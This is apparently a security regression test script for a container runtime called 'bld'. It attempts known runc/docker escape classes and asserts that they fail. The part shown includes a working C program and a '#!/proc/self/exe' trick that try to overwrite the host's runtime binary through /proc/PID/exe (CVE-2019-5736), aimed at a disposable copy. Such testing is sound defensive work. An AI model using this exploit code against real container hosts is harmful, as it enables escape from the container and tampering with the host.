#!/usr/bin/env bash
# Container escapes of the runc/docker CVE classes that apply to bld's runner and cp, each
# attempted for real and shown to fail: a container process overwriting the host's bld
# through /proc/PID/exe of a process bld execs into it (CVE-2019-5736), a leaked directory
# descriptor as working directory (CVE-2024-21626), writes through masked /proc and /sys
# paths, cp through symlinks to host paths and symlinks swapped during the copy
# (CVE-2018-15664, CVE-2019-14271), and a cgroup v1 hierarchy's release_agent (CVE-2022-0492).
. "$(dirname "$0")/lib.sh"
# the bld that `exec` runs is a copy, so that an overwrite would hit the copy alone
VICTIM=$T_DIR/bld-victim
cp "$BLD" "$VICTIM"
. "$(dirname "$0")/runner_env.bash"
V() { nsenter --net="/run/netns/$NS" "$VICTIM" "$@"; }
victim_sum() { sha256sum "$VICTIM" | cut -d' ' -f1; }

# ------------------------------------------------------------- CVE-2019-5736: /proc/PID/exe
# The attacker, inside the container, opens (O_PATH) the executable of every process it can
# see that is the host's bld (by device and inode) and tries to reopen it for writing.
X=$T_DIR/x
mkdir -p "$X"
cat >"$T_DIR/attack.c" <<'C'
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	unsigned long dev = strtoul(argv[1], NULL, 10), ino = strtoul(argv[2], NULL, 10);
	time_t end = time(NULL) + strtol(argv[3], NULL, 10);
	int fds[64], n = 0, wrote = 0;
	while (time(NULL) < end && !wrote) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d)) && n < 64;) {
			char p[64];
			snprintf(p, sizeof(p), "/proc/%s/exe", e->d_name);
			struct stat st;
			int fd = open(p, O_PATH | O_CLOEXEC);
			if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
				fds[n++] = fd;
			else if (fd >= 0)
				close(fd);
		}
		if (d)
			closedir(d);
		for (int i = 0; i < n; i++) {
			char p[64];
			snprintf(p, sizeof(p), "/proc/self/fd/%d", fds[i]);
			int w = open(p, O_WRONLY);
			wrote += w >= 0 && pwrite(w, "PWNED", 5, 0) == 5;
		}
	}
	printf("opened %d wrote %d\n", n, wrote);
	return 0;
}
C
cc -static -O2 -o "$X/attack" "$T_DIR/attack.c" || t_fail "compile the attacker"
# the runc exploit's entry point: an executable whose interpreter is the runtime itself
printf '#!/proc/self/exe\n' >"$X/evil"
chmod 755 "$X/evil"
want=$(victim_sum)
read -r dev ino < <(stat -c '%d %i' "$VICTIM")
B run -d --name victim -v "$X:/x:ro" $IMG sleep 300 >/dev/null
B exec -d victim sh -c "/x/attack $dev $ino 6 >/tmp/res 2>&1"
for i in $(seq 15); do
  V exec victim /x/evil >/dev/null 2>&1
  V exec -d victim /x/evil >/dev/null 2>&1
  V exec victim true
done
for i in $(seq 80); do B exec victim test -s /tmp/res && break; sleep 0.1; done
t_eq "CVE-2019-5736: bld exec never shows the container the host's bld" "opened 0 wrote 0" \
  "$(B exec victim cat /tmp/res)"
t_eq "... and the host's bld is unchanged" "$want" "$(victim_sum)"
